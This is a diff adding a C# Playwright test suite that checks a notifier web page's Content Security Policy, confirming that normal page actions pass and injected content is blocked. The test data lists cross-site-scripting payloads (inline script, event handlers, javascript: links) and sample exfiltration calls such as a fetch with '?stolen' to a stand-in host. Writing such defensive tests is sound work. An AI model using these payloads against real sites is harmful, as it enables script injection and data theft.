@@ -1,0 +1,71 @@
+using FluentAssertions;
+using Notifier.Tests.Support;
+using Xunit;
+using static Microsoft.Playwright.Assertions;
+
+namespace Notifier.Tests.Browser;
+
+/// <summary>The page needs nothing that the policy forbids, and what somebody slips into it does not run.</summary>
+[Collection(UsesBrowser.Name)]
+public sealed class ContentSecurityPolicyTests(BrowserFixture browser, RedisFixture fixture)
+{
+    private RedisServer Redis => fixture.Redis;
+
+    /// <summary>What is violated, and by what: <c>add</c> puts HTML into the page.</summary>
+    public static TheoryData<string, string> Attacks { get; } = new()
+    {
+        { "script-src-elem", "document.body.append(Object.assign(document.createElement('script'), { textContent: 'ran = 1' }))" },
+        { "script-src-elem", "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,ran = 1' }))" },
+        { "script-src-attr", "add(`<button id=bad onclick=\"ran = 1\"></button>`); bad.click()" },
+        { "script-src-attr", "add(`<img src=data:, onerror=\"ran = 1\">`)" },
+        { "script-src-elem", "add(`<a id=bad href=\"javascript:ran = 1\"></a>`); bad.click()" },
+        { "frame-src", "add(`<iframe src=https://elsewhere.invalid/></iframe>`)" },
+        { "style-src-attr", "add(`<p style=\"background: url(https://elsewhere.invalid/)\">`)" },
+        { "img-src", "add(`<img src=https://elsewhere.invalid/>`)" },
+        { "connect-src", "fetch('https://elsewhere.invalid/?stolen').catch(() => 0)" },
+        { "connect-src", "try { new WebSocket('wss://elsewhere.invalid/') } catch { }" },
+        { "form-action", "add(`<form id=bad action=https://elsewhere.invalid/></form>`); bad.submit()" },
+        { "base-uri", "document.head.insertAdjacentHTML('beforeend', '<base href=https://elsewhere.invalid/>')" },
+    };
+
+    [Fact]
+    public async Task All_that_the_page_does_is_allowed()
+    {
+        await using var app = await NotifierApp.StartAsync(Redis.Configuration);
+        await using var page = await DemoPage.OpenAsync(browser, Redis, app);
+        await Expect(page.Status).ToHaveTextAsync("Connected to WebSocket server");
+        await page.IsLiveAsync();
+
+        await page.ShowAsync("notifications.new-user", "Mathias signed up");
+        await Redis.PublishAsync("new-users", new byte[] { 0xFF });
+        await Expect(page.Payloads.First).ToHaveTextAsync("(1 bytes of binary data) ff");
+        await page.SubscribeAsync("orders.*");
+        await page.SubscribeAsync("__keyspace@0__:x");
+        await Expect(page.Page.Locator("#names > li.refused .reason")).ToContainTextAsync("reserved");
+        await page.Page.ClickAsync("#copy");
+        await Expect(page.Page.Locator("#copy")).Not.ToHaveTextAsync("Copy");
+        await page.Names.Locator("button").First.ClickAsync();
+        await Expect(page.Names).ToHaveCountAsync(3);
+
+        // The style sheet and the colours that the script gives.
+        await Expect(page.Page.Locator("main")).ToHaveCSSAsync("display", "grid");
+        await Expect(page.Names.First).ToHaveCSSAsync("--hue", "302.5");
+        page.ConsoleErrors.Should().BeEmpty();
+        page.Errors.Should().BeEmpty();
+    }
+
+    /// <summary>Should a name or a payload become HTML one day, all the same.</summary>
+    [Theory]
+    [MemberData(nameof(Attacks))]
+    public async Task What_is_slipped_into_the_page_is_stopped(string directive, string attack)
+    {
+        await using var app = await NotifierApp.StartAsync(Redis.Configuration);
+        await using var page = await DemoPage.OpenAsync(browser, Redis, app);
+        await page.IsLiveAsync();
+
+        await page.Page.EvaluateAsync($"() => {{ const add = html => document.body.insertAdjacentHTML('beforeend', html); {attack} }}");
+
+        await Eventually.IsAsync(() => page.Violations.Contains(directive), $"{directive} is violated");
+        (await page.Page.EvaluateAsync<bool>("() => 'ran' in window")).Should().BeFalse();
+    }
+}
